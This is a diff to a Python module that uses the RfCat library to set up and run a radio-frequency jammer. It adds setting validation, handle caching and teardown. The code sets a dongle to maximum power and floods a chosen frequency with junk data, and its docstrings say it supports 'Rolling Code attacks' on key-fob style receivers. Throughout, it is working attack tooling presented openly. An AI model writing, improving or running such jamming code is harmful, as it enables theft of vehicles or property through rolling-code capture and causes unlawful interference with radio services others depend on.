@@ -1,26 +1,61 @@
 from rflib import *
-import sys
+import time, sys, atexit
 sys.dont_write_bytecode = True
 
+jam_payload = b"A" * 1000  #continuous stream of data sent to jam the frequency, built once
+jammers = {}   #idx -> (RfCat handle, settings it was configured with), kept open between attacks
+
+def validateJammerSettings(rf_settings):
+    '''Checks the settings the jammer is programmed with, raises ValueError before any dongle is touched'''
+    if rf_settings.baud_rate <= 0:
+        raise ValueError(f"baud rate must be positive, got {rf_settings.baud_rate}")
+    if rf_settings.channel_spacing <= 0:
+        raise ValueError(f"channel spacing must be positive, got {rf_settings.channel_spacing}")
+
 def setupJammer(idx_value, rf_settings):
-    '''Used to setup jammer with second card for a Rolling Code attack or single for other attacks'''
+    '''Used to setup jammer with second card for a Rolling Code attack or single for other attacks
+    The dongle is opened once per idx and only reconfigured when the jamming settings change'''
     try:
-        j = RfCat(idx=idx_value)
+        validateJammerSettings(rf_settings)
+    except ValueError as e:
+        print(f"Invalid jammer settings: {e}")
+        return None
+
+    baud_rate = rf_settings.baud_rate
+    channel_spacing = rf_settings.channel_spacing
+    j, configured = jammers.get(idx_value, (None, None))
+    if configured == (baud_rate, channel_spacing):
+        return j
+    try:
+        if j is None:
+            j = RfCat(idx=idx_value)
         j.setMdmModulation(MOD_ASK_OOK)
-        j.setMdmDRate(rf_settings.baud_rate)# how long each bit is transmited for
+        j.setMdmDRate(baud_rate)# how long each bit is transmited for
         j.setMdmChanBW(60000)# how wide channel is
-        j.setMdmChanSpc(rf_settings.channel_spacing)
+        j.setMdmChanSpc(channel_spacing)
         j.setMaxPower()
         #j.setRFRegister(PA_TABLE0, 0xFF)
         #j.setRFRegister(PA_TABLE1, 0xFF)
         j.setRFRegister(PKTCTRL1, 0xFF)
         j.setChannel(0)
+        jammers[idx_value] = (j, (baud_rate, channel_spacing))
         return j
     
     except Exception as e:
         print(f"Error setting up jammer: {e}")
         return None
 
+def teardownJammers():
+    ''' Puts any jammers opened by setupJammer back into idle mode'''
+    for j, _ in jammers.values():
+        try:
+            j.setModeIDLE()
+        except Exception:
+            pass
+    jammers.clear()
+
+atexit.register(teardownJammers)
+
 def jamming(j, action, rf_settings, rolling_code, jamming_variance=0, retries=3):
     '''This is used to Jam frequencies with the parameters you set either
     stand alone or for rolling code attacks using jamming variance'''
@@ -29,16 +64,16 @@ def jamming(j, action, rf_settings, rolling_code, jamming_variance=0, retries=3)
         return
 
     try:
-        frequency = rf_settings.frequency + jamming_variance
-        j.setFreq(frequency)
-
         if action == "start":
+            #Only starting needs the dongle tuned, stopping just drops it back to idle
+            frequency = rf_settings.frequency + jamming_variance
+            j.setFreq(frequency)
             print(f"Starting Jamming on: {frequency}")
             print("Press enter to stop jamming \n")
             for attempt in range(retries):
                 try:
                     while not keystop():
-                        j.RFxmit(b"A" * 1000)  # send a continuous stream of data to jam the frequency
+                        j.RFxmit(jam_payload)
 
                     if not rolling_code:
                         print("done")